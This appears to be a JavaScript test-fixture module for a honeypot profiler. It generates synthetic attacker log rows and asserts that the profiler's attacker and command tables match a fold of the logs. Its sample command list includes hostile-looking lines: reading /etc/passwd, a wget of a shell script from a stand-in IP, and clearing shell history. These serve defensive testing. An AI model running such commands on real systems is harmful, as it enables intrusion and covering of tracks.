/**
 * Log rows for profiler tests, written straight into `logs` (no parsing), and
 * the profiles a from-scratch fold of the whole table must give.
 */
import assert from 'node:assert/strict'

import {batchCommands} from '../../dist/db/bulk/command-batches.js'
import {foldAttacker} from '../../dist/workers/profiler/fold.js'
import {ProfilerSemantics} from '../../dist/workers/profiler/semantics.js'

const DECKIES = ['decky-01', 'decky-02', 'decky-03', 'decky-04', 'decky-05']
const SERVICES = ['ssh', 'telnet', 'http', 'ftp']
const COMMANDS = ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.9/x.sh', 'id', 'history -c']

/** A deterministic pseudo-random source. */
function random(seed) {
  let state = seed >>> 0
  return (n) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state % n
  }
}

/**
 * `count` log rows over `attackers` IPs (1 in 20 without an IP), with
 * connects, failed and successful logins and commands, several deckies, and
 * timestamps a little out of order.
 */
export function makeLogs(count, {attackers = 50, seed = 1, startMinute = 0} = {}) {
  const rand = random(seed)
  const rows = []
  for (let i = 0; i < count; i++) {
    const minute = startMinute + i / 10 + rand(30) / 10 - 1.5
    const timestamp = new Date(Date.UTC(2026, 10, 26, 12, 0, 0) + Math.round(minute * 60_000)).toISOString()
    const ip = rand(20) === 0 ? null : `198.51.100.${rand(attackers) + 1}`
    const decky = DECKIES[rand(DECKIES.length)]
    const service = SERVICES[rand(SERVICES.length)]
    const kind = rand(10)
    let eventType = 'connect'
    let fields = {src_ip: ip}
    let msg = null
    if (kind < 3) {
      eventType = 'login_failed'
      fields = {...fields, password: 'hunter2', user: 'root'}
    } else if (kind === 3) {
      eventType = 'login_success'
    } else if (kind < 6) {
      eventType = 'command'
      const command = COMMANDS[rand(COMMANDS.length)]
      if (rand(2) === 0) fields = {...fields, command}
      else msg = `CMD uid=0 user=root src=${ip} pwd=/root cmd=${command}`
    }

    rows.push({
      attacker_ip: ip,
      decky,
      event_type: eventType,
      fields: JSON.stringify(fields),
      msg,
      raw_line: `<13>1 ${timestamp} ${decky} ${service} - ${eventType} - ${msg ?? ''}`,
      service,
      timestamp,
    })
  }

  return rows
}

/** Inserts rows into `logs` in chunks (one transaction per chunk). */
export async function insertLogs(db, rows, chunkSize = 2000) {
  for (let i = 0; i < rows.length; i += chunkSize) {
    await db.insertInto('logs').values(rows.slice(i, i + chunkSize)).execute()
  }
}

/** The attackers table and command rows, in a comparable order. */
export async function readProfiles(db) {
  const attackers = await db.selectFrom('attackers').selectAll().orderBy('ip').execute()
  const batches = await db.selectFrom('attacker_command_batches').selectAll().execute()
  const commands = batches.flatMap((batch) => batchCommands(batch).map((command) => normalise({...command, ip: batch.ip})))
  commands.sort((a, b) => a.log_id - b.log_id)
  return {attackers: attackers.map(normalise), commands}
}

/** What the profiler must have built from every row of `logs`: one fold of each attacker's whole history. */
export async function expectedProfiles(db) {
  const logs = await db.selectFrom('logs').selectAll().orderBy('id').execute()
  const byIp = new Map()
  for (const row of logs) {
    if (!row.attacker_ip) continue
    if (!byIp.has(row.attacker_ip)) byIp.set(row.attacker_ip, [])
    byIp.get(row.attacker_ip).push(row)
  }

  const attackers = []
  const commands = []
  const semantics = new ProfilerSemantics()
  for (const [ip, rows] of byIp) {
    const folded = foldAttacker(undefined, ip, rows, semantics)
    attackers.push(normalise(folded.attacker))
    commands.push(...folded.commands.map((command) => normalise({...command, ip})))
  }

  attackers.sort((a, b) => (a.ip < b.ip ? -1 : 1))
  commands.sort((a, b) => a.log_id - b.log_id)
  return {attackers, commands}
}

/** Numbers as numbers whatever the driver returned, keys sorted. */
function normalise(row) {
  const out = {}
  for (const key of Object.keys(row).sort()) {
    const value = row[key]
    out[key] = typeof value === 'bigint' || (typeof value === 'string' && /_(count|attempts|id)$|^is_/.test(key) && /^\d+$/.test(value)) ? Number(value) : value
  }

  return out
}

/**
 * Asserts that the profiler's tables are exactly what folding every line of
 * `logs` from scratch gives: each attacker's event_count is the number of its
 * lines, no command row is there twice, every column matches.
 */
export async function assertProfilesExact(db) {
  const built = await readProfiles(db)
  const counts = await db
    .selectFrom('logs')
    .select(['attacker_ip', (eb) => eb.fn.countAll().as('n')])
    .where('attacker_ip', 'is not', null)
    .groupBy('attacker_ip')
    .execute()
  for (const {attacker_ip: ip, n} of counts) {
    assert.equal(built.attackers.find((row) => row.ip === ip)?.event_count, Number(n), `event_count of ${ip}`)
  }

  assert.equal(built.attackers.length, counts.length, 'one attacker row per attacker IP')
  assert.equal(new Set(built.commands.map((row) => row.log_id)).size, built.commands.length, 'no duplicate command rows')
  assert.deepEqual(built, await expectedProfiles(db))
}
